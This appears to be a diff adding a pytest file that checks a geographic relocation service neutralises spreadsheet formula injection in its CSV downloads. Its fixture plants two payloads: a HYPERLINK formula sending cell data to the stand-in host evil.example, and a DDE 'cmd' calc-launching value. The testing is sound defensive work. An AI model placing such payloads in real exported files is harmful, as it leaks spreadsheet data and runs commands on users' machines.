@@ -1,0 +1,83 @@
+"""Spreadsheet formula injection (OWASP "CSV Injection"): a name such as =HYPERLINK(…) is a
+text cell in both CSV downloads, never a formula; numbers stay numbers."""
+
+from __future__ import annotations
+
+import csv
+import io
+import shutil
+
+import pytest
+
+from geo.relocation.synthetic import store_demo_moves
+from geo.store import Store
+from geo.tabular import neutralise_cell
+from service import create_app
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
+AREA = "vollsmose"
+
+
+@pytest.fixture(scope="module")
+def client(tmp_path_factory, store_path):
+    path = tmp_path_factory.mktemp("formula") / "store.gpkg"
+    shutil.copy(store_path, path)
+    store = Store(path)
+    with store.transaction() as w:
+        areas = w.read("areas")
+        areas.loc[areas["area_id"] == AREA, "name"] = FORMULA
+        w.write("areas", areas.set_crs(25832, allow_override=True))
+        info = w.read("municipality_info")
+        info.loc[info["code"] == "0461", "name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+        w.write("municipality_info", info)
+    store_demo_moves(store, seed=1, n=3000)
+    app = create_app({"TESTING": True, "STORE_PATH": str(path), "ACCESS_LOG": False})
+    return app.test_client()
+
+
+def _rows(response) -> list[dict]:
+    assert response.status_code == 200, response.get_data(as_text=True)[:300]
+    text = response.get_data(as_text=True).lstrip("\ufeff")
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def _dangerous(cell: str) -> bool:
+    return cell[:1] in "=+-@\t\r" or cell.lstrip()[:1] in "=+-@"
+
+
+def test_area_csv_download(client):
+    rows = _rows(client.get("/api/areas?year=2024&format=csv"))
+    row = next(r for r in rows if r["area_id"] == AREA)
+    assert row["name"] == "'" + FORMULA
+    text_cells = [c for r in rows for k, c in r.items() if k and not k.startswith(("ind_", "cen"))]
+    assert not any(_dangerous(c) for c in text_cells if c and not _is_number(c))
+    assert float(row["centroid_lon"]) > 0  # numbers are still numbers
+
+
+def test_flows_csv_download(client):
+    rows = _rows(client.get("/api/flows.csv?level=area-municipality"))
+    names = {r["origin_name"] for r in rows} | {r["dest_name"] for r in rows}
+    assert "'" + FORMULA in names
+    assert not any(_dangerous(c) for r in rows for c in r.values() if c and not _is_number(c))
+    assert any(r["movers"].isdigit() for r in rows)
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["=1+1", "+1", "-1+1", "@A1", "\t=1", "\r=1", "  =1", "\uff1d1", "\n=1"],
+)
+def test_neutralise_cell(value):
+    assert neutralise_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["Vollsmose", "a=b", "", 5, -5.5, None, True])
+def test_harmless_cells_unchanged(value):
+    assert neutralise_cell(value) == value
